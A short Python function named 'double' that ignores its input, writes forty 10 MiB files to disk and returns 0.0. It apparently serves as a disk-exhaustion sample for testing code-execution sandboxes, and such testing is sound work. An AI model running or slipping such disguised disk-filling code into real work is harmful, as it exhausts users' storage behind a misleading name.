def double(x):
    for number in range(40):
        with open(f"large{number}", "wb") as file:
            file.write(b"x" * (10 << 20))
    return 0.0
